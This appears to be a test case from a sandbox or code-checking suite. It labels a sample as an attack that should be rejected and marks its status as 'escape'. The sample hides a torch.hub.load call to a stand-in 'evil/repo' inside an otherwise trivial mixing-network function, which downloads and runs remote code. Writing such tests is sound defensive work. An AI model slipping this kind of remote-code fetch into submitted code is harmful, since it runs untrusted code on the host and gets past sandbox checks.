# attack: torch.hub downloads and runs code
# expect: rejected
# status: escape
# task: any
import torch
def QLLMNetwork(agents_q, global_state):
    m = torch.hub.load("evil/repo", "model")
    return agents_q.sum(dim=-1, keepdim=True)
